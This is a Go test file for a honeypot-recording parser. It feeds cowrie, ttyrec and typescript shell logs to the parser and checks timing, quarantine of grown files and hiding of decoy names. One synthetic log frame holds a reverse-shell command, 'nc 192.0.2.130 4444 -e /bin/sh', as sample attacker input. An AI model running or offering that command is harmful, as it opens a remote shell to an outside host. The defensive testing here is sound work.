package observe_test

import (
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/opencure/cure/internal/publish"
	"github.com/opencure/cure/internal/publish/observe"
	"github.com/opencure/cure/internal/publish/publishtest"
)

// recordings are the samples of what a shell leaves.
var recordings = []string{
	"decoynet-typescript", "decoynet-cast", "decoynet-cast3", "decoynet-tlog", "decoynet-history", "decoynet-audit",
	"decoynet-powershell", "decoynet-typescript-broken", "decoynet-cast-broken", "decoynet-timing",
}

func TestDecoynetShells(t *testing.T) {
	for _, name := range recordings {
		t.Run(name, func(t *testing.T) {
			goldenInto(t, &publishtest.Hub{Own: ownSide}, name, observe.Decoynet(), "decoynet/decoy-9", nil)
		})
	}
}

// ttyLog is a log of a terminal as cowrie writes it; ttyRec is one of ttyrec.
func ttyLog() []byte {
	var b bytes.Buffer
	frame := func(what, way, second uint32, text string) {
		for _, v := range []uint32{what, 0, uint32(len(text)), way, 1794896400 + second, 250_000} {
			_ = binary.Write(&b, binary.LittleEndian, v)
		}
		b.WriteString(text)
	}
	frame(1, 0, 0, "")
	frame(3, 2, 0, "root@decoy-9:~# ")
	frame(3, 1, 2, "uname -a\r")
	frame(3, 2, 2, "uname -a\r\nLinux\r\nroot@decoy-9:~# ")
	frame(3, 2, 9, "nc 192.0.2.130 4444 -e /bin/sh\r\n")
	frame(2, 0, 9, "")
	return b.Bytes()
}

func ttyRec() []byte {
	var b bytes.Buffer
	for i, text := range []string{"root@decoy-9:~# ", "who", "ami\r\n", "root\r\nroot@decoy-9:~# ", "exit\r\n"} {
		for _, v := range []uint32{1794896400 + uint32(i), 500_000, uint32(len(text))} {
			_ = binary.Write(&b, binary.LittleEndian, v)
		}
		b.WriteString(text)
	}
	return b.Bytes()
}

func TestDecoynetTerminals(t *testing.T) {
	for name, data := range map[string][]byte{"decoynet-ttylog": ttyLog(), "decoynet-ttyrec": ttyRec()} {
		t.Run(name, func(t *testing.T) {
			in := filepath.Join(t.TempDir(), name)
			write(t, in, data)
			h := &publishtest.Hub{Own: ownSide}
			same(t, name, show(t, h, runInto(t, h, observe.Decoynet(), "decoynet/decoy-9", nil, in)))
		})
	}
}

// TestDecoynetTimingBeside: the times beside a typescript are those of its
// commands, and a recording that has grown is refused once.
func TestDecoynetTimingBeside(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "typescript")
	parts := []string{"root@decoy-9:~# ", "id", "\r\n", "root@decoy-9:~# ", "whoami\r\n"}
	write(t, in, []byte("Script started on 2026-11-17 06:20:00+00:00 [TERM=\"xterm\" COLUMNS=\"80\"]\n"+strings.Join(parts, "")))
	write(t, in+".timing", []byte("H 0.000000 START_TIME 2026-11-17 06:20:00+00:00\nO 1.5 16\nO 2.0 2\nO 0.5 2\nS 0.0 SIGWINCH ROWS=24 COLS=100\nO 0.0 16\nO 6.0 8\n"))
	h := &publishtest.Hub{}
	runInto(t, h, observe.Decoynet(), "decoynet/a", nil, in)
	all := everything(t, h)
	for _, want := range []string{"06:20:04 shell id t", "06:20:10 shell whoami t1033"} {
		if want = strings.TrimSuffix(want, " t"); !strings.Contains(all, want) {
			t.Errorf("%q is not there: %s", want, show(t, h, publish.Result{}))
		}
	}
	f, err := os.OpenFile(in, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString("root@decoy-9:~# ls\r\n"); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	before := len(h.Records)
	if res := runInto(t, h, observe.Decoynet(), "decoynet/a", nil, in); res.Quarantined != 1 || len(h.Records) != before || len(res.Problems) != 1 {
		t.Errorf("grown: quarantined %d, %d records more, problems %v", res.Quarantined, len(h.Records)-before, res.Problems)
	}
	if res := runInto(t, h, observe.Decoynet(), "decoynet/a", nil, in); res.Quarantined != 0 || res.Published != 0 {
		t.Errorf("again: quarantined %d, published %d", res.Quarantined, res.Published)
	}
}

// TestDecoynetShellsHideDecoys: who reads it learns no decoy.
func TestDecoynetShellsHideDecoys(t *testing.T) {
	for _, name := range recordings {
		t.Run(name, func(t *testing.T) {
			h := &publishtest.Hub{}
			runInto(t, h, observe.Decoynet(), "decoynet/a", nil, filepath.Join("testdata", name+".in"))
			all := strings.ToLower(everything(t, h))
			for _, secret := range []string{"decoy-7", "decoy-9", "hanako"} {
				if i := strings.Index(all, secret); i >= 0 {
					t.Errorf("%s left: …%q…", secret, all[max(0, i-100):min(len(all), i+60)])
				}
			}
		})
	}
}

func FuzzDecoynetShell(f *testing.F) {
	for _, name := range recordings {
		data, err := os.ReadFile(filepath.Join("testdata", name+".in"))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	f.Add(ttyLog())
	f.Add(ttyRec())
	f.Add([]byte("beside 8 bytes\n0.1 16\n\nScript started on 2026-11-17 06:20:00\nroot@decoy-9:~# id\r\n"))
	fuzzDecoder(f, observe.Decoynet(), publish.Options{Source: "decoynet/a", Own: publish.NewOwnSide(ownSide), Zone: time.FixedZone("", 9*3600)})
}
